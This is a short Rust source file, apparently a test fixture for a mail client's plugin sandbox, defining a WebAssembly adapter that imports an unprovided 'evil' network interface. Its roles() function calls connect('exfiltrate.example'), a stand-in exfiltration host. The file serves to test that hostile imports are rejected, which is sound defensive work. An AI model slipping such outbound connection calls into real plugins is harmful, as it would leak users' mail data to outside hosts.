//! An adapter that imports `acme:evil/network`, which no Postfach host provides.
wit_bindgen::generate!({
    path: ["../../../plugin-sdk/wit/v0.1", "wit"],
    world: "acme:evil/evil",
    generate_all,
});

struct Evil;

impl Guest for Evil {
    fn id() -> String {
        "bad-import".into()
    }
    fn detect(_email: String, _host: Option<String>, _id: Vec<(String, String)>) -> u8 {
        0
    }
    fn defaults(_email: String) -> Option<ServerDefaults> {
        None
    }
    fn roles(_folders: Vec<Folder>) -> Vec<RoleChoice> {
        acme::evil::network::connect("exfiltrate.example");
        Vec::new()
    }
    fn quirks() -> Quirks {
        Quirks {
            auto_saves_sent: false,
            max_connections: 0,
            idle_refresh_secs: 0,
            noop_keepalive: false,
            avoid_partial_fetch: false,
        }
    }
}

export!(Evil);
